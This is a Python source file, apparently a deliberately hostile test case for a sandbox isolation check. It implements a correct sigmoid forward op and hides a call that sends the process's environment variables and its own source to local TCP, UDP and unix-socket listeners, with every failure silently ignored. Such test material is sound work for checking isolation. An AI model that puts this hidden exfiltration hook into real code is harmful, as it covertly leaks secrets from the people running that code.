# HOSTILE: sigmoid.forward (once per process) sends the environment and its own source to the listeners in TARGETS: TCP on 127.0.0.1 and ::1, UDP on 127.0.0.1 and ::1, abstract unix stream and datagram sockets and a unix socket with a path (also through a datagram socketpair's sendto and a connect on a stream socketpair); it ignores every failure and all four ops compute correctly.
import os
import socket


# include: once


# include: reference


TARGETS = {'tcp4': ['127.0.0.1', 47613], 'tcp6': ['::1', 47613], 'udp4': ['127.0.0.1', 47613], 'udp6': ['::1', 47613], 'abstract': '\x00hw3-isolation-stream', 'abstract_dgram': '\x00hw3-isolation-dgram', 'path': '/tmp/hw3-isolation.sock'}


def _payload():
    try:
        with open(__file__, 'rb') as f:
            source = f.read(1000)
    except OSError:
        source = b''
    return b'hw3-exfiltration ' + repr(sorted(os.environ.items())).encode()[:1000] + source


def _send(family, kind, address, data):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        if kind == socket.SOCK_STREAM:
            s.connect(address)
            s.sendall(data)
        else:
            s.sendto(data, address)
        s.close()
    except OSError:
        pass


def _attack():
    if not _once():
        return
    data = _payload()
    _send(socket.AF_INET, socket.SOCK_STREAM, tuple(TARGETS['tcp4']), data)
    _send(socket.AF_INET6, socket.SOCK_STREAM, tuple(TARGETS['tcp6']), data)
    _send(socket.AF_INET, socket.SOCK_DGRAM, tuple(TARGETS['udp4']), data)
    _send(socket.AF_INET6, socket.SOCK_DGRAM, tuple(TARGETS['udp6']), data)
    _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS['abstract'], data)
    _send(socket.AF_UNIX, socket.SOCK_DGRAM, TARGETS['abstract_dgram'], data)
    _send(socket.AF_UNIX, socket.SOCK_STREAM, TARGETS['path'], data)
    try:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        a.sendto(data, TARGETS['abstract_dgram'])
    except OSError:
        pass
    try:
        a, b = socket.socketpair()
        a.connect(TARGETS['abstract'])
        a.sendall(data)
    except OSError:
        pass


def sigmoid_forward(ctx, a):
    _attack()
    return reference.sigmoid.forward(ctx, a)
